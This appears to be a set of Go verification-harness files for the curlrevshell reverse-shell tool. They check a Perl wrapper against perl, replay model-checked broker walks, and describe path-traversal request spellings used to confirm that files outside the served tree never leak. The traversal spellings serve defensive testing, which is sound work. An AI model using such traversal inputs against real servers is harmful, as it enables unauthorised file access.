	r.Rule("TLC enumerates every target of up to N path tokens (file and directory names of the tree, a missing name, '..', '.', the empty segment, the endpoint words c i o io, an id, index.html, a name with a backslash and dots) with and without a final slash under four configurations (unset, single file, a plain tree, a tree containing files named like the endpoints) and computes the outcome from Routes.tla; each is requested from a real hsrv over TLS following redirects and classified (script / input / output / duplex stream by the broker's own records, file content, listing, 404) and compared; hostile spellings (encoded and double-encoded dot segments, encoded slashes and backslashes, ;parameters, NUL, 8 KiB padding, absolute form) are required never to return canary content placed above, beside and similar to the tree and, in single-file mode, to be answered with the one file whenever the file handler reports the request; non-trivial = targets whose outcome is not a 404")
	r.Assume("request targets are a class abstraction with seeded hostile spellings, not every raw target; symbolic links leaving the tree are not generated")
}
