package main

import (
	"bytes"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/lib/shellfuncsfile"
	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

func init() {
	register("C16", "exploration", perlwrapCampaign)
}

type pwCase struct {
	Script []string `json:"script"`
	Clean  struct {
		Empty   bool `json:"empty"`
		Program []struct {
			Line int    `json:"line"`
			As   string `json:"as"`
		} `json:"program"`
		Lead []int `json:"lead"`
		Runs []int `json:"runs"`
	} `json:"clean"`
}

var pwSpell = map[string][]string{
	"shebang":  {"#!/usr/bin/perl", "#!/usr/bin/env perl"},
	"hash":     {"#"},
	"comment":  {"# a comment %d", "#no space %d", "# TABDOC: f%d does things", "## '%d' \\ {"},
	"blank":    {""},
	"ws":       {"  ", "\t", " \t "},
	"code":     {`print "L%d\n";`, `my $v%d = %d; print "L", $v%d, "\n";`, `print 'L%d', "\n"; # trailing comment`},
	"icomment": {"  # indented comment %d", "\t#tabbed %d"},
	"endmark":  {"__END__", "__DATA__"},
}

func pwLine(class string, i int, rng *rand.Rand) string {
	sp := pwSpell[class]
	s := sp[rng.Intn(len(sp))]
	n := strings.Count(s, "%d")
	args := make([]any, n)
	for k := range args {
		args[k] = i
	}
	return fmt.Sprintf(s, args...)
}

// pwExpected builds the script text and what Clean says perl must receive.
func pwExpected(c pwCase, rng *rand.Rand) (src, program, lead string, outLines []string) {
	lines := make([]string, len(c.Script))
	for i, cl := range c.Script {
		lines[i] = pwLine(cl, i+1, rng)
	}
	src = strings.Join(lines, "\n")
	if rng.Intn(2) == 0 && len(lines) > 0 {
		src += "\n"
	}
	var pl []string
	for k, p := range c.Clean.Program {
		t := lines[p.Line-1]
		if k == 0 {
			t = strings.TrimLeft(t, " \t")
		}
		if p.As == "blanked" {
			pl = append(pl, "")
		} else {
			pl = append(pl, t)
			for _, ri := range c.Clean.Runs {
				if ri == p.Line {
					outLines = append(outLines, fmt.Sprintf("L%d", p.Line))
				}
			}
		}
	}
	if len(pl) > 0 {
		program = strings.Join(pl, "\n") + "\n"
	} else if src != "" {
		program = "\n"
	}
	var ll []string
	for k, idx := range c.Clean.Lead {
		t := lines[idx-1]
		if len(c.Clean.Program) > 0 && c.Clean.Program[0].Line == idx && k == 0 {
			t = strings.TrimLeft(t, " \t")
		}
		ll = append(ll, t)
	}
	if len(ll) > 0 {
		lead = strings.Join(ll, "\n") + "\n"
	}
	return
}

// pwParse takes a generated function apart: lead comments, function name, and the carried text.
func pwParse(fn string, name string) (lead string, carried string, ok bool) {
	i := strings.Index(fn, name+"() {(")
	if i < 0 {
		return "", "", false
	}
	lead = fn[:i]
	a := strings.Index(fn, "q{`\n")
	b := strings.Index(fn, "\n}=~y/sb/")
	if a < 0 || b < 0 || b < a {
		return lead, "", false
	}
	body := fn[a+len("q{`\n") : b]
	body = strings.ReplaceAll(body, "s", "'")
	body = strings.ReplaceAll(body, "b", "\\")
	return lead, body + "\n", true
}

func stripBareHash(s string) string {
	var out []string
	for _, l := range strings.Split(s, "\n") {
		if l != "#" {
			out = append(out, l)
		}
	}
	return strings.Join(out, "\n")
}

type pwRun struct {
	stdout []byte
	stderr []byte
	status int
	err    error
}

func runCmd(dir string, stdin []byte, name string, args ...string) pwRun {
	cmd := exec.Command(name, args...)
	cmd.Dir = dir
	cmd.Env = []string{"PATH=/usr/bin:/bin", "LC_ALL=C", "HOME=" + dir}
	cmd.Stdin = bytes.NewReader(stdin)
	var so, se bytes.Buffer
	cmd.Stdout, cmd.Stderr = &so, &se
	if err := cmd.Start(); err != nil {
		return pwRun{err: err}
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case err := <-done:
		r := pwRun{stdout: so.Bytes(), stderr: se.Bytes()}
		if ee, ok := err.(*exec.ExitError); ok {
			r.status = ee.ExitCode()
		} else if err != nil {
			r.err = err
		}
		return r
	case <-time.After(30 * time.Second):
		cmd.Process.Kill()
		return pwRun{err: fmt.Errorf("timeout")}
	}
}

type pwProg struct {
	src    string
	dieMsg string // non-empty: the script dies with this message
	kind   string
}

var pwArgs = [][]string{nil, {"one"}, {"a b", "'q'", "*", "-n", "--", "$HOME", "\\", ""}, {"-e", "print 1", "x"}, {"--", "-x"}}

func pwStdin(rng *rand.Rand, k int) []byte {
	switch k % 3 {
	case 0:
		return nil
	case 1:
		return []byte("line one\nline 'two'\n\\three\n")
	}
	b := make([]byte, 300)
	rng.Read(b)
	return b
}

func perlQuoteDouble(b []byte) string {
	var sb strings.Builder
	for _, c := range b {
		switch {
		case c == '"' || c == '\\' || c == '$' || c == '@':
			sb.WriteString("\\" + string(c))
		case c >= 32 && c < 127:
			sb.WriteByte(c)
		default:
			fmt.Fprintf(&sb, "\\x%02x", c)
		}
	}
	return sb.String()
}

func perlQuoteSingle(b []byte) string {
	var sb strings.Builder
	for _, c := range b {
		if c == '\'' || c == '\\' {
			sb.WriteByte('\\')
		}
		sb.WriteByte(c)
	}
	return sb.String()
}

// pwGenerate makes a Perl program from the grammar.
func pwGenerate(rng *rand.Rand, targetLen int) pwProg {
	var sb strings.Builder
	p := pwProg{kind: "grammar"}
	if rng.Intn(3) == 0 {
		sb.WriteString("#!/usr/bin/perl\n# generated program\n#\n")
	}
	if rng.Intn(2) == 0 {
		sb.WriteString("use strict; use warnings;\n")
	}
	sb.WriteString("binmode(STDOUT); binmode(STDIN);\n")
	n := 2 + rng.Intn(8)
	usedStdin := false
	for i := 0; i < n; i++ {
		switch rng.Intn(14) {
		case 11: // an end marker that is data, not the end of the program
			fmt.Fprintf(&sb, "print <<'EOT%d';\n#!/usr/bin/perl\nprint 1;\n%s\ndata line\nEOT%d\n", i, []string{"__END__", "__DATA__"}[rng.Intn(2)], i)
		case 12:
			fmt.Fprintf(&sb, "print \"multi\n%s\nline %d\\n\";\n", []string{"__END__", "__DATA__"}[rng.Intn(2)], i)
		case 13:
			fmt.Fprintf(&sb, "\n=pod\n\n%s\n\nprint 'never %d';\n\n=cut\n\nprint \"after pod %d\\n\";\n", []string{"__END__", "some 'pod' text \\ {"}[rng.Intn(2)], i, i)
		case 0:
			b := make([]byte, 1+rng.Intn(40))
			rng.Read(b)
			fmt.Fprintf(&sb, "print \"%s\";\n", perlQuoteDouble(b))
		case 1:
			b := make([]byte, 1+rng.Intn(40))
			for k := range b {
				b[k] = byte(rng.Intn(256))
				if b[k] == '\n' || b[k] == 0 {
					b[k] = '\''
				}
			}
			fmt.Fprintf(&sb, "print '%s';\n", perlQuoteSingle(b))
		case 2:
			sb.WriteString("print q{braces {nested} 'q' \"d\" \\\\ },\"\\n\";\n")
		case 3:
			fmt.Fprintf(&sb, "print <<\"EOT%d\";\nhere 'doc' \"%d\" \\\\ \\$0x {}\nEOT%d\n", i, i, i)
		case 4:
			fmt.Fprintf(&sb, "print <<'EOT%d';\nraw $here @doc \\n {\nEOT%d\n", i, i)
		case 5:
			sb.WriteString("print scalar(@ARGV), ':', join('|', @ARGV), \"\\n\";\n")
		case 6:
			if !usedStdin {
				usedStdin = true
				sb.WriteString("{ local $/; my $in = <STDIN>; $in = '' unless defined $in; print length($in), ':', $in, \"\\n\"; }\n")
			}
		case 7:
			fmt.Fprintf(&sb, "sub f%d { my ($x) = @_; return $x * 2 } print f%d(%d), \"\\n\";\n", i, i, rng.Intn(100))
		case 8:
			fmt.Fprintf(&sb, "for my $i (1..%d) { printf('%%03d%%s', $i, ($i %% 2 ? \"'\" : \"\\\\\")); } print \"\\n\";\n", 1+rng.Intn(5))
		case 9:
			fmt.Fprintf(&sb, "my %%h%d = (a => 1, 'b c' => 2); print join(',', map { \"$_=$h%d{$_}\" } sort keys %%h%d), \"\\n\";\n", i, i, i)
		case 10:
			fmt.Fprintf(&sb, "# comment in the middle %d 's' \\b {\n\n", i)
		}
	}
	// padding so that every script length (mod 45, mod 3) occurs
	if cur := sb.Len(); targetLen > cur+20 {
		pad := targetLen - cur - 20
		sb.WriteString("# " + strings.Repeat("p", pad) + "\n")
	}
	switch rng.Intn(6) {
	case 0:
		fmt.Fprintf(&sb, "exit %d;\n", 1+rng.Intn(200))
	case 1:
		p.dieMsg = fmt.Sprintf("fatal-%d 'quoted'", rng.Intn(1000))
		fmt.Fprintf(&sb, "die \"%s\\n\";\n", p.dieMsg)
	case 2:
		sb.WriteString("exit 0;\n")
	}
	if rng.Intn(4) == 0 {
		sb.WriteString("__END__\nthis is 'not' code { \\ \"\n")
	}
	p.src = sb.String()
	if rng.Intn(3) == 0 {
		p.src = strings.TrimRight(p.src, "\n")
	}
	return p
}

type pwFinding struct {
	key    string
	detail map[string]any
}

// pwBehaviour compares the wrapped function with perl on the script.
func pwBehaviour(scratch string, idx int, src string, dieMsg string, rng *rand.Rand) []pwFinding {
	dir, err := os.MkdirTemp(scratch, "pw")
	if err != nil {
		return nil
	}
	defer os.RemoveAll(dir)
	os.WriteFile(filepath.Join(dir, "prog.pl"), []byte(src), 0o644)
	fn, err := shellfuncsfile.FromPerl("prog.pl", strings.NewReader(src))
	if err != nil {
		return []pwFinding{{"filter-error", map[string]any{"error": err.Error()}}}
	}
	os.WriteFile(filepath.Join(dir, "funcs.sh"), fn, 0o644)
	var out []pwFinding
	args := pwArgs[rng.Intn(len(pwArgs))]
	stdin := pwStdin(rng, rng.Intn(3))
	direct := runCmd(dir, stdin, "perl", append([]string{"prog.pl"}, args...)...)
	if direct.err != nil {
		return nil
	}
	for _, sh := range []string{"dash", "bash"} {
		w := runCmd(dir, stdin, sh, append([]string{"-c", `. ./funcs.sh; prog "$@"`, "sh"}, args...)...)
		if w.err != nil {
			out = append(out, pwFinding{"wrapper-does-not-run", map[string]any{"shell": sh, "error": w.err.Error()}})
			continue
		}
		key := ""
		switch {
		case src == "" && (w.status != direct.status || !bytes.Equal(w.stdout, direct.stdout)):
			key = "empty-script"
		case !bytes.Equal(w.stdout, direct.stdout):
			key = "stdout-differs"
			// perl itself turns raw CR bytes that follow a here-document into LF when the
			// program is evaluated from a string instead of read from a file
			if i := strings.Index(src, "<<"); i >= 0 && strings.Contains(src[i:], "\r") &&
				bytes.Equal(bytes.ReplaceAll(w.stdout, []byte("\r"), []byte("\n")), bytes.ReplaceAll(direct.stdout, []byte("\r"), []byte("\n"))) {
				key = "raw-cr-after-heredoc"
			}
		case dieMsg != "" && (w.status == 0 || !bytes.Contains(w.stderr, []byte(dieMsg))):
			key = "die-not-reported"
		case dieMsg == "" && w.status != direct.status:
			key = "exit-status-differs"
		case dieMsg != "" && direct.status == 0:
			key = ""
		}
		if key != "" {
			d := map[string]any{"shell": sh, "args": args, "stdin_hex": hex.EncodeToString(stdin), "script": src, "script_hex": hex.EncodeToString([]byte(src)),
				"perl_status": direct.status, "wrapped_status": w.status, "wrapped_stderr": string(w.stderr)}
			if len(direct.stdout) < 400 && len(w.stdout) < 400 {
				d["perl_stdout"] = string(direct.stdout)
				d["wrapped_stdout"] = string(w.stdout)
			}
			out = append(out, pwFinding{key, d})
		}
	}
	return out
}

func perlwrapCampaign(r *ev.Run) {
	cfg, nprog, nbeh := "PerlWrap_q", 250, 200
	if r.Tier == "thorough" {
		cfg, nprog, nbeh = "PerlWrap_t", 3000, 1500
	}
	var mu sync.Mutex
	cases := map[string]pwCase{}
	res, err := tlcrun.Run(tlcrun.Opts{Module: "PerlWrap", Config: cfg, Workers: 8, Timeout: 30 * time.Minute,
		OnTagged: func(tag, p string) {
			if tag != "CASE" {
				return
			}
			var c pwCase
			if json.Unmarshal([]byte(p), &c) == nil {
				mu.Lock()
				cases[p] = c
				mu.Unlock()
			}
		}})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
		r.Inconclusive("TLC %s: err=%v violated=%q\n%s", cfg, err, resViolated(res), tail(res))
		return
	}
	r.Append("tlc_invariants_checked", "PerlWrap: CleanLaws (LinesPreserved OnlyTopCommentsBlanked LeadAreBlanked), PipelineLaws (PipelineIdentity SubstitutesOutsideAlphabet NoQuoteLeft BracesBalanced NothingElseMapsBack)")
	r.Set("tlc_line_class_sequences", len(cases))
	keys := make([]string, 0, len(cases))
	for k := range cases {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	rng := rand.New(rand.NewSource(r.Seed))
	scratch, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "perlwrap-")
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	defer os.RemoveAll(scratch)
	// ---- static leg: what perl receives, for every line-class sequence and every generated program
	type static struct {
		src, program, lead string
		carried            string
		gotLead            string
		parsed             bool
		what               string
	}
	var statics []*static
	var progs []pwProg
	for _, k := range keys {
		c := cases[k]
		src, program, lead, _ := pwExpected(c, rng)
		statics = append(statics, &static{src: src, program: program, lead: lead, what: strings.Join(c.Script, ",")})
	}
	lens := map[int]bool{}
	for i := 0; i < nprog; i++ {
		target := 60 + i%135 + rng.Intn(3)*135
		if i%50 == 49 {
			target = 20000 + rng.Intn(45000)
		}
		p := pwGenerate(rng, target)
		progs = append(progs, p)
		lens[len(strings.TrimSpace(p.src))%135] = true
	}
	// special programs
	progs = append(progs, pwProg{src: "", kind: "empty"}, pwProg{src: " \n\t\n", kind: "whitespace-only"},
		pwProg{src: "print \"only\\n\"", kind: "one-line"}, pwProg{src: "# only a comment\n", kind: "comment-only"},
		pwProg{src: "__END__\nnothing\n", kind: "end-only"})
	nparsed := 0
	var carriedHex bytes.Buffer
	for _, s := range statics {
		fn, err := shellfuncsfile.FromPerl("prog.pl", strings.NewReader(s.src))
		if err != nil {
			r.Violation("filter-error", map[string]any{"script": s.src, "error": err.Error()})
			continue
		}
		s.gotLead, s.carried, s.parsed = pwParse(string(fn), "prog")
		if s.src == "" {
			s.parsed = false
		}
		if s.parsed {
			nparsed++
			carriedHex.WriteString(hex.EncodeToString([]byte(s.carried)))
		}
		carriedHex.WriteByte('\n')
	}
	dec, err := perlUnpackHexLines(carriedHex.Bytes())
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	for i, s := range statics {
		if !s.parsed {
			continue
		}
		if string(dec[i]) != s.program {
			r.Violation("program-text", map[string]any{"line_classes": s.what, "script": s.src, "perl_receives": string(dec[i]), "expected": s.program})
		}
		if stripBareHash(s.gotLead) != stripBareHash(s.lead) {
			r.Violation("lead-comments", map[string]any{"line_classes": s.what, "script": s.src, "got": s.gotLead, "expected": s.lead})
		}
	}
	if nparsed == 0 {
		r.Inconclusive("no generated function could be taken apart statically (template changed?)")
	}
	// ---- behavioural leg
	type job struct {
		src, die, kind string
		seed           int64
	}
	var jobs []job
	for i, k := range keys {
		if i%(len(keys)/nbeh+1) != 0 {
			continue
		}
		c := cases[k]
		src, _, _, _ := pwExpected(c, rand.New(rand.NewSource(r.Seed+int64(i))))
		jobs = append(jobs, job{src: src, kind: "classes:" + strings.Join(c.Script, ","), seed: r.Seed*31 + int64(i)})
	}
	for i, p := range progs {
		jobs = append(jobs, job{src: p.src, die: p.dieMsg, kind: p.kind, seed: r.Seed*37 + int64(i)})
	}
	var all []pwFinding
	var amu sync.Mutex
	var wg sync.WaitGroup
	sem := make(chan struct{}, runtime.NumCPU())
	for i, j := range jobs {
		wg.Add(1)
		sem <- struct{}{}
		go func(i int, j job) {
			defer wg.Done()
			defer func() { <-sem }()
			fs := pwBehaviour(scratch, i, j.src, j.die, rand.New(rand.NewSource(j.seed)))
			for k := range fs {
				fs[k].detail["kind"] = j.kind
			}
			amu.Lock()
			all = append(all, fs...)
			amu.Unlock()
		}(i, j)
	}
	wg.Wait()
	sort.Slice(all, func(i, j int) bool { return all[i].key < all[j].key })
	for _, f := range all {
		r.Violation(f.key, f.detail)
	}
	distinct := map[string]bool{}
	for _, j := range jobs {
		if strings.TrimSpace(j.src) != "" {
			distinct[j.src] = true
		}
	}
	for _, s := range statics {
		if strings.TrimSpace(s.src) != "" {
			distinct[s.src] = true
		}
	}
	r.Sample(map[string]any{"script": progs[0].src})
	r.Sample(map[string]any{"line_classes": statics[len(statics)/2].what, "script": statics[len(statics)/2].src, "perl_must_receive": statics[len(statics)/2].program})
	r.Add("evaluations", len(statics)+len(jobs))
	r.Add("distinct_nontrivial", len(distinct))
	r.Set("static_cases", len(statics))
	r.Set("behavioural_cases", len(jobs))
	r.Set("shell_runs", 2*len(jobs))
	r.Set("length_residues_mod_135", len(lens))
	r.Rule("TLC enumerates every sequence of line classes (#!, bare #, comment, blank, whitespace-only, code, indented comment, __END__/__DATA__ marker) up to the bound with the expected (lead comments, program text) from PerlWrap.tla and checks the quoting pipeline on the whole uu alphabet; each sequence is concretised, run through the real FromPerl, the carried text reversed and decoded by perl and compared; generated programs (all byte values in literals, quotes, backslashes, braces, here-docs, __END__ / __DATA__ both as the end of the program and as data inside here-docs, multi-line strings and POD, exit codes, die, arguments, stdin; lengths covering the residues mod 45 and 3; up to ~64 KiB) are executed as functions under dash and bash and directly by perl, comparing stdout and exit status; non-trivial = distinct non-blank scripts")
	r.Assume("perl itself is the oracle for behavioural equivalence; the grammar is bounded")
}

// perlUnpackHexLines uudecodes each hex-encoded line with perl.
func perlUnpackHexLines(in []byte) ([][]byte, error) {
	script := `while(<STDIN>){chomp;my $t=pack("H*",$_);my $r=unpack("u",$t);$r="" unless defined $r;print unpack("H*",$r),"\n";}`
	cmd := exec.Command("perl", "-e", script)
	cmd.Stdin = bytes.NewReader(in)
	out, err := cmd.Output()
	if err != nil {
		return nil, fmt.Errorf("perl: %w", err)
	}
	lines := strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
	n := bytes.Count(in, []byte("\n"))
	res := make([][]byte, n)
	for i := 0; i < n && i < len(lines); i++ {
		res[i], _ = hex.DecodeString(lines[i])
	}
	return res, nil
}
