package main

import (
	"encoding/json"
	"fmt"
	"math/rand"
	"os"
	"runtime"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/brk"
	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/graph"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

func init() {
	register("C01", "model_checking", func(r *ev.Run) {
		ctlCampaign(r, "C01")
		httpIDLeg(r)
		repoTestsLeg(r, "C01")
		freeRunLeg(r, "C01", map[string]int{"quick": 300, "thorough": 3000}[r.Tier])
		transcriptLeg(r, "C01", map[string]int{"quick": 300, "thorough": 3000}[r.Tier])
		if r.Tier == "thorough" {
			apalacheLeg(r)
		}
	})
	register("C06", "model_checking", func(r *ev.Run) {
		ctlCampaign(r, "C06")
		freeRunLeg(r, "C06", map[string]int{"quick": 300, "thorough": 3000}[r.Tier])
		apalacheLeg(r)
	})
}

func labels(steps []brk.CtlStep) []string {
	var out []string
	for _, s := range steps {
		a := s.Act
		switch a.N {
		case "ArriveUni":
			out = append(out, fmt.Sprintf("ArriveUni(%d,%s,%q)", a.A, a.D, a.K))
		case "ArriveIO":
			out = append(out, fmt.Sprintf("ArriveIO(%d,%d)", a.A, a.B))
		case "Admit":
			out = append(out, fmt.Sprintf("Admit(%d)=%s", a.A, a.O))
		case "ProxyEnd":
			out = append(out, fmt.Sprintf("ProxyEnd(%d,%s)", a.A, a.Why))
		case "Release":
			out = append(out, fmt.Sprintf("Release(%d)", a.A))
		default:
			out = append(out, a.N)
		}
	}
	return out
}

// tlcGraph runs a BrokerCtl configuration and returns its labelled graph.
func tlcGraph(r *ev.Run, cfg string, extra []string, workers int, timeout time.Duration) (*graph.G, *tlcrun.Result) {
	g := graph.New()
	var mu sync.Mutex
	var perr error
	res, err := tlcrun.Run(tlcrun.Opts{Module: "BrokerCtl", Config: cfg, Workers: workers, Timeout: timeout, Extra: extra,
		OnTagged: func(tag, p string) {
			if tag != "EDGE" {
				return
			}
			mu.Lock()
			if e := g.AddEdgeJSON(p); e != nil && perr == nil {
				perr = e
			}
			mu.Unlock()
		}})
	if err != nil {
		r.Inconclusive("TLC %s: %v", cfg, err)
		return nil, res
	}
	if perr != nil {
		r.Inconclusive("TLC %s: unparsable edge: %v", cfg, perr)
		return nil, res
	}
	if res.TimedOut {
		r.Inconclusive("TLC %s timed out", cfg)
		return nil, res
	}
	if res.Violated != "" {
		r.Inconclusive("the specification itself violates %s in %s (specification defect, not an implementation verdict)\n%s", res.Violated, cfg, strings.Join(res.Tail, "\n"))
		return nil, res
	}
	g.SetInitByNoIncoming()
	return g, res
}

func walkSteps(g *graph.G, walk []int) ([]brk.CtlStep, error) {
	steps := make([]brk.CtlStep, 0, len(walk))
	for _, ei := range walk {
		e := g.Edges[ei]
		s, err := brk.ParseCtlStep(e.Act, e.ToState)
		if err != nil {
			return nil, err
		}
		steps = append(steps, s)
	}
	return steps, nil
}

type ctlFinding struct {
	div   brk.Div
	steps []brk.CtlStep
	seed  int64
	res   *brk.CtlResult
}

// replayAll replays walks in parallel and returns the divergences found.
func replayAll(r *ev.Run, walks [][]brk.CtlStep, baseSeed int64) (found []ctlFinding, nsteps int, variants map[string]int) {
	variants = map[string]int{}
	type job struct {
		i int
	}
	jobs := make(chan job, 64)
	var mu sync.Mutex
	var wg sync.WaitGroup
	nw := runtime.NumCPU()
	if v := os.Getenv("VERIF_REPLAY_WORKERS"); v != "" {
		fmt.Sscan(v, &nw)
	}
	t0 := time.Now()
	defer func() { fmt.Printf("replayed %d walks with %d workers in %v\n", len(walks), nw, time.Since(t0)) }()
	for k := 0; k < nw; k++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := range jobs {
				seed := baseSeed*1000003 + int64(j.i)
				tw := time.Now()
				res, err := brk.ReplayCtl(walks[j.i], seed, brk.CtlOpts{})
				if d := time.Since(tw); d > 20*time.Millisecond && os.Getenv("VERIF_SLOW") != "" {
					fmt.Println("SLOW", d, labels(walks[j.i]))
				}
				mu.Lock()
				if err != nil {
					r.Inconclusive("replay of walk %d: %v (%v)", j.i, err, labels(walks[j.i]))
				}
				if res != nil {
					nsteps += res.Steps
					variants[res.Variant]++
					for _, d := range res.Divs {
						found = append(found, ctlFinding{div: d, steps: walks[j.i], seed: seed, res: res})
					}
				}
				mu.Unlock()
			}
		}()
	}
	for i := range walks {
		if lim := os.Getenv("VERIF_WALK_LIMIT"); lim != "" {
			var n int
			fmt.Sscan(lim, &n)
			if i >= n {
				break
			}
		}
		jobs <- job{i}
	}
	close(jobs)
	wg.Wait()
	return
}

// confirm re-runs a divergent walk serially, up to four times, and counts how often the divergence
// shows up again (two are enough).
func confirm(f ctlFinding) int {
	hits := 0
	for k := 0; k < 8 && hits < 2; k++ {
		res, err := brk.ReplayCtl(f.steps, f.seed, brk.CtlOpts{})
		if err != nil || res == nil {
			continue
		}
		for _, d := range res.Divs {
			if d.Prop == f.div.Prop && d.Aspect == f.div.Aspect {
				hits++
				break
			}
		}
	}
	return hits
}

func report(r *ev.Run, prop string, found []ctlFinding) {
	seen := map[string]bool{}
	other := map[string]int{}
	for _, f := range found {
		if f.div.Prop != prop {
			other[f.div.Prop+"/"+f.div.Aspect]++
		}
	}
	if len(other) > 0 {
		fmt.Printf("note: divergences attributed to other properties (reported by their own checks): %v\n", other)
		r.Set("divergences_other_properties", other)
	}
	for _, f := range found {
		if f.div.Prop != prop || seen[f.div.Aspect] {
			continue
		}
		switch n := confirm(f); {
		case n == 0:
			transient(r, "divergence %s/%s: %s", f.div.Prop, f.div.Aspect, f.div.Desc)
			continue
		case n == 1:
			r.Inconclusive("divergence %s/%s reproduced only once in eight re-runs: %s", f.div.Prop, f.div.Aspect, f.div.Desc)
			continue
		}
		seen[f.div.Aspect] = true
		r.Violation(f.div.Aspect, map[string]any{
			"kind": "BrokerCtl-walk", "desc": f.div.Desc, "step": f.div.Step, "seed": f.seed,
			"walk": labels(f.steps), "key_variant": f.res.Variant, "steps": f.steps,
		})
	}
}

// selfTestCtl demonstrates the binding: a walk whose expected admission
// outcome is falsified must be rejected by the replay.
func selfTestCtl(r *ev.Run, walks [][]brk.CtlStep) bool {
	for _, w := range walks {
		for i, s := range w {
			if s.Act.N == "Admit" && s.Act.O == "accepted" {
				bad := append([]brk.CtlStep(nil), w[:i+1]...)
				b, _ := json.Marshal(bad[i])
				var cp brk.CtlStep
				json.Unmarshal(b, &cp)
				cp.Act.O = "refused"
				cp.Act.Rs = []string{"dup"}
				bad[i] = cp
				res, err := brk.ReplayCtl(bad, 1, brk.CtlOpts{})
				if err != nil || res == nil || len(res.Divs) == 0 {
					r.Inconclusive("self-test: a falsified expected outcome was not rejected by the replay (%v)", err)
					return false
				}
				r.Append("selftest", "falsified expected admission outcome rejected: "+res.Divs[0].Desc)
				return true
			}
		}
	}
	r.Inconclusive("self-test: no walk with an accepted admission found")
	return false
}

func ctlCampaign(r *ev.Run, prop string) {
	cfgs, maxLen := []string{"BrokerCtl_io", "BrokerCtl_hang", "BrokerCtl_q"}, 40
	if r.Tier == "thorough" {
		cfgs = []string{"BrokerCtl_io", "BrokerCtl_t"}
	}
	rng := rand.New(rand.NewSource(r.Seed))
	var walks [][]brk.CtlStep
	states, trans, gen := 0, 0, 0
	for _, cfg := range cfgs {
		g, res := tlcGraph(r, cfg, nil, 8, 15*time.Minute)
		if g == nil {
			return
		}
		states += res.Distinct
		trans += len(g.Edges)
		gen += res.Generated
		for _, wi := range g.CoveringWalks(rng, maxLen) {
			s, err := walkSteps(g, wi)
			if err != nil {
				r.Inconclusive("decoding walk: %v", err)
				return
			}
			walks = append(walks, s)
		}
	}
	r.Add("states", states)
	r.Add("transitions", trans)
	r.Add("tlc_states_generated", gen)
	r.Set("tlc_configs", cfgs)
	r.Append("tlc_invariants_checked", "TypeOK OneShell Consistent IdleIsInitial ExactlyOneGone ReadyAtMostOncePerGen ShutdownWaits SameRequest AtMostOneIO NoMixIOUni; action properties RefusedWhenRequired ReArm ReadyOnlyWhenFull FullImpliesReady NoAdmissionAfterShutdown")
	if !selfTestCtl(r, walks) {
		return
	}
	found, nsteps, variants := replayAll(r, walks, r.Seed)
	r.Add("edge_cover_walks", len(walks))
	nw := len(walks)
	// larger configuration by simulation
	if r.Tier == "thorough" {
		sims := simulateCtl(r, "BrokerCtl_sim", 3000, 45, r.Seed)
		f2, n2, v2 := replayAll(r, sims, r.Seed+7)
		found = append(found, f2...)
		nsteps += n2
		nw += len(sims)
		for k, v := range v2 {
			variants[k] += v
		}
		r.Set("simulated_behaviours", len(sims))
		walks = append(walks, sims...)
	}
	nontrivial := 0
	distinct := map[string]bool{}
	for _, w := range walks {
		att := false
		for _, s := range w {
			if s.Act.N == "Admit" && s.Act.O == "accepted" {
				att = true
			}
		}
		k := strings.Join(labels(w), " ")
		if att && !distinct[k] {
			distinct[k] = true
			nontrivial++
		}
	}
	r.Add("traces_validated_against_impl", nw)
	r.Add("evaluations", nw)
	r.Add("distinct_nontrivial", nontrivial)
	r.Add("replayed_steps", nsteps)
	r.Set("key_variants", variants)
	r.Set("exhaustive", true)
	r.Rule(fmt.Sprintf("every edge of the TLC state graphs of %v is replayed on a real Broker through covering walks from Init (gated schedule); a walk is non-trivial when it attaches at least one stream; distinct = distinct action sequences", cfgs))
	for i := 0; i < len(walks) && i < 3; i++ {
		r.Sample(labels(walks[rng.Intn(len(walks))]))
	}
	r.Assume("the verif hooks only observe and delay; ordering comes from under-lock stamps")
	r.Assume("callback IDs are drawn from a seeded family (unrelated / prefix / extension / case / one byte / NUL / space variants), not all strings")
	report(r, prop, found)
}

// simulateCtl asks TLC for random behaviours of a larger configuration.
func simulateCtl(r *ev.Run, cfg string, num, depth int, seed int64) [][]brk.CtlStep {
	var cur []brk.CtlStep
	var out [][]brk.CtlStep
	var initFrom string
	var perr error
	_, err := tlcrun.Run(tlcrun.Opts{Module: "BrokerCtl", Config: cfg, Workers: 1, Timeout: 10 * time.Minute,
		Extra: []string{"-simulate", fmt.Sprintf("num=%d", num), "-depth", fmt.Sprint(depth), "-seed", fmt.Sprint(seed)},
		OnTagged: func(tag, p string) {
			if tag != "EDGE" {
				return
			}
			var e struct {
				From json.RawMessage `json:"from"`
				Act  json.RawMessage `json:"act"`
				To   json.RawMessage `json:"to"`
			}
			if err := json.Unmarshal([]byte(p), &e); err != nil {
				perr = err
				return
			}
			if initFrom == "" {
				initFrom = string(e.From)
			}
			if string(e.From) == initFrom && len(cur) > 0 {
				out = append(out, cur)
				cur = nil
			}
			s, err := brk.ParseCtlStep(e.Act, e.To)
			if err != nil {
				perr = err
				return
			}
			cur = append(cur, s)
		}})
	if len(cur) > 0 {
		out = append(out, cur)
	}
	if err != nil || perr != nil {
		r.Inconclusive("TLC simulation %s: %v %v", cfg, err, perr)
	}
	return out
}
