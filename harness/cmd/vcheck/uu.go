package main

import (
	"bytes"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/lib/uu"
